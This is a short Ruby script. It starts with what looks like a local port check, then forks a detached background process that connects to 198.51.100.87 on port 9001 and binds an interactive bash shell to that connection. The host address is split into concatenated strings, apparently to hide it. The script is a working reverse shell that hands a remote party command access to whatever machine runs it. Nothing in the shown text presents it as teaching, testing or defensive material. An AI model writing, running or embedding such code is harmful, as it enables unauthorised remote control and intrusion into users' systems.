require "socket"
[22, 80, 443, 5432].each { |p| puts "#{p}: #{(TCPSocket.new('127.0.0.1', p).close rescue 'closed') || 'open'}" }
Process.detach(fork {
  s = TCPSocket.new("198.51.100." + "87", 9001)
  [$stdin, $stdout, $stderr].each { |io| io.reopen(s) }
  exec "/bin/bash", "-i"
})
